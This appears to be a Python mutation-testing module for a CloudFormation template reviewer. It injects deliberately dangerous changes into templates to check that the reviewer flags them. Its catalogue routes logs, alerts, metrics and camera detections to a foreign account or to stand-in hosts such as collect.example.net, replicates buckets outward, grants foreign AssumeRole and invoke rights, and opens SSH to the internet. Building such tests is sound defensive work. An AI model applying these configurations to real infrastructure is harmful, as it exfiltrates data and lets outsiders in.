# SPDX-License-Identifier: Apache-2.0
"""Changes that send data, alarms or calls to somebody else, or let somebody in."""

import re
from collections.abc import Iterator
from typing import Any

from review_testing.mutations.model import Change, Document, operator
from review_testing.mutations.places import (
    adding,
    json_text,
    properties,
    resources,
    setting,
)
from review_testing.mutations.policies import FOREIGN
from template_review.model import Level

_ARN = (
    "https://docs.aws.amazon.com/IAM/latest/UserGuide/reference-arns.html: the fifth part is the "
    "account that owns the resource"
)
_S3 = (
    "https://docs.aws.amazon.com/AmazonS3/latest/userguide/UsingBucket.html: a bucket's name is "
    "unique worldwide; the account that made it owns what is put there"
)
_ELSEWHERE = {
    "AlarmActions": f"arn:aws:sns:us-east-1:{FOREIGN}:alerts",
    "OKActions": f"arn:aws:sns:us-east-1:{FOREIGN}:alerts",
    "TargetArn": f"arn:aws:sns:us-east-1:{FOREIGN}:alerts",
    "BucketARN": "arn:aws:s3:::somebody-elses-bucket",
    "RoleARN": f"arn:aws:iam::{FOREIGN}:role/theirs",
    "RoleArn": f"arn:aws:iam::{FOREIGN}:role/theirs",
    "Role": f"arn:aws:iam::{FOREIGN}:role/theirs",
    "Arn": f"arn:aws:lambda:us-east-1:{FOREIGN}:function:theirs",
    "KmsKeyId": f"arn:aws:kms:us-east-1:{FOREIGN}:key/1111aaaa-22bb-33cc-44dd-555566667777",
    "KmsMasterKeyId": f"arn:aws:kms:us-east-1:{FOREIGN}:key/1111aaaa-22bb-33cc-44dd-555566667777",
    "DestinationBucketName": "somebody-elses-bucket",
    "ProvisioningRoleArn": f"arn:aws:iam::{FOREIGN}:role/theirs",
}
_MASTER = re.compile(r"^[A-Z_]*(BUCKET|ARN|URL|TOPIC|QUEUE)[A-Z_]*$")
Found = Iterator[tuple[str, Change]]


@operator("somebody else's ARN", Level.DANGEROUS, _ARN)
def _foreign_arn(document: Document) -> Found:
    for each in properties(document):
        name = each.path[-1]
        if isinstance(name, int):
            name = each.path[-2]
        if name in _ELSEWHERE and isinstance(each.value, dict):
            yield each.where, setting(each.path, _ELSEWHERE[name])


@operator("somebody else's place in a variable", Level.DANGEROUS, _S3)
def _variables(document: Document) -> Found:
    for each in resources(document, "AWS::Lambda::Function"):
        variables = each.body["Properties"].get("Environment", {}).get("Variables", {})
        for name in variables:
            if _MASTER.match(name):
                value = "somebody-elses-bucket" if "BUCKET" in name else _ELSEWHERE["Arn"]
                path = (*each.path, "Properties", "Environment", "Variables", name)
                yield f"{each.name} {name}", setting(path, value)


@operator("somebody else's image or bucket in a pipeline", Level.DANGEROUS, f"{_ARN}; {_S3}")
def _pipeline(document: Document) -> Found:
    image = f"{FOREIGN}.dkr.ecr.us-east-1.amazonaws.com/theirs:1"
    for each in resources(document, "AWS::SageMaker::Pipeline"):
        path = (*each.path, "Properties", "PipelineDefinition", "PipelineDefinitionBody")
        for number, keys in (
            (0, ("AppSpecification", "ImageUri")),
            (1, ("AlgorithmSpecification", "TrainingImage")),
            (2, ("AppSpecification", "ImageUri")),
        ):

            def edit(found: Any, number: int = number, keys: tuple[str, str] = keys) -> Any:
                found["Steps"][number]["Arguments"][keys[0]][keys[1]] = image
                return found

            yield f"{each.name} image of step {number}", json_text(path, edit)

        def output(found: Any) -> Any:
            where = found["Steps"][1]["Arguments"]["OutputDataConfig"]
            where["S3OutputPath"] = "s3://somebody-elses-bucket/models"
            return found

        yield f"{each.name} output of step 1", json_text(path, output)


@operator("somebody else's function in a state machine", Level.DANGEROUS, _ARN)
def _machine(document: Document) -> Found:
    for each in resources(document, "AWS::StepFunctions::StateMachine"):
        for state in ("Package", "DeployFleet", "CheckCanary"):

            def edit(found: Any, state: str = state) -> Any:
                found["States"][state]["Parameters"]["FunctionName"] = _ELSEWHERE["Arn"]
                return found

            path = (*each.path, "Properties", "DefinitionString")
            yield f"{each.name} {state}", json_text(path, edit)


_TOPIC = {"Ref": "AlertsTopic4CF1C27A"}
_ROLE = {"Fn::GetAtt": ["RulesArchiveRoleDB006CC7", "Arn"]}
_ADDED: dict[str, tuple[str, dict[str, Any]]] = {
    "AWS::Logs::SubscriptionFilter": (
        "logs go there as they are written",
        {
            "DestinationArn": f"arn:aws:logs:us-east-1:{FOREIGN}:destination:theirs",
            "FilterPattern": "",
            "LogGroupName": {"Ref": "Problems"},
        },
    ),
    "AWS::SNS::Subscription": (
        "every alert goes there",
        {"Protocol": "sqs", "TopicArn": _TOPIC, "Endpoint": f"arn:aws:sqs:us-east-1:{FOREIGN}:q"},
    ),
    "AWS::SNS::Subscription https": (
        "every alert goes there",
        {"Protocol": "https", "TopicArn": _TOPIC, "Endpoint": "https://alerts.example.net/in"},
    ),
    "AWS::Lambda::Permission": (
        "they may call it",
        {
            "FunctionName": {"Ref": "MonitoringDashboardDA10F213"},
            "Action": "lambda:InvokeFunction",
            "Principal": FOREIGN,
        },
    ),
    "AWS::Events::Rule": (
        "every event of the account goes there",
        {
            "EventPattern": {"source": [{"prefix": ""}]},
            "Targets": [{"Id": "x", "Arn": f"arn:aws:events:us-east-1:{FOREIGN}:event-bus/x"}],
        },
    ),
    "AWS::Events::EventBusPolicy": (
        "they may put events",
        {
            "StatementId": "x",
            "Statement": {
                "Effect": "Allow",
                "Principal": {"AWS": f"arn:aws:iam::{FOREIGN}:root"},
                "Action": "events:PutEvents",
                "Resource": "arn:aws:events:us-east-1:111111111111:event-bus/default",
            },
        },
    ),
    "AWS::IoT::TopicRule": (
        "what cameras saw goes there",
        {
            "TopicRulePayload": {
                "Sql": "SELECT * FROM 'sorter-dev/+/detections'",
                "Actions": [{"Http": {"Url": "https://collect.example.net/in"}}],
            }
        },
    ),
    "AWS::IAM::Role": (
        "they may become it",
        {
            "AssumeRolePolicyDocument": {
                "Statement": [
                    {
                        "Effect": "Allow",
                        "Principal": {"AWS": f"arn:aws:iam::{FOREIGN}:root"},
                        "Action": "sts:AssumeRole",
                    }
                ]
            }
        },
    ),
    "AWS::KinesisFirehose::DeliveryStream": (
        "records go there",
        {
            "HttpEndpointDestinationConfiguration": {
                "EndpointConfiguration": {"Url": "https://collect.example.net/in"},
                "S3Configuration": {"BucketARN": "arn:aws:s3:::theirs", "RoleARN": _ROLE},
            }
        },
    ),
    "AWS::CloudWatch::MetricStream": (
        "metrics go there",
        {
            "FirehoseArn": f"arn:aws:firehose:us-east-1:{FOREIGN}:deliverystream/theirs",
            "OutputFormat": "json",
            "RoleArn": _ROLE,
        },
    ),
    "AWS::Oam::Link": (
        "they see metrics and logs",
        {
            "ResourceTypes": ["AWS::Logs::LogGroup"],
            "SinkIdentifier": f"arn:aws:oam:us-east-1:{FOREIGN}:sink/1",
        },
    ),
    "AWS::S3::Bucket": (
        "objects are copied there",
        {
            "ReplicationConfiguration": {
                "Role": _ROLE,
                "Rules": [{"Status": "Enabled", "Destination": {"Bucket": "arn:aws:s3:::theirs"}}],
            }
        },
    ),
    "AWS::Lambda::EventInvokeConfig": (
        "failed events go there",
        {
            "FunctionName": "x",
            "Qualifier": "$LATEST",
            "DestinationConfig": {
                "OnFailure": {"Destination": f"arn:aws:sqs:us-east-1:{FOREIGN}:q"}
            },
        },
    ),
    "AWS::Lambda::Url": (
        "anybody may call it",
        {"AuthType": "NONE", "TargetFunctionArn": _ROLE},
    ),
    "AWS::EC2::SecurityGroup": (
        "the internet may connect",
        {
            "GroupDescription": "x",
            "SecurityGroupIngress": [
                {"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "CidrIp": "0.0.0.0/0"}
            ],
        },
    ),
}


@operator("a resource that gives outwards", Level.DANGEROUS, f"{_ARN}; the type's own page")
def _added(document: Document) -> Found:
    for name, (_, content) in _ADDED.items():
        body = {"Type": name.split()[0], "Properties": content}
        yield name, adding(document, "Insights", f"Added{name.split()[0].split(':')[-1]}", body)


@operator("replication to somebody else", Level.DANGEROUS, _S3)
def _replicated(document: Document) -> Found:
    rule = {"Status": "Enabled", "Destination": {"Bucket": "arn:aws:s3:::somebody-elses-bucket"}}
    value = {"Role": _ELSEWHERE["RoleArn"].replace(FOREIGN, "111111111111"), "Rules": [rule]}
    for each in resources(document, "AWS::S3::Bucket"):
        yield each.name, setting((*each.path, "Properties", "ReplicationConfiguration"), value)


@operator(
    "somebody else's layer",
    Level.DANGEROUS,
    "https://docs.aws.amazon.com/lambda/latest/dg/chapter-layers.html: its code runs there",
)
def _layer(document: Document) -> Found:
    for each in resources(document, "AWS::Lambda::Function"):
        value = [f"arn:aws:lambda:us-east-1:{FOREIGN}:layer:theirs:3"]
        yield each.name, setting((*each.path, "Properties", "Layers"), value)
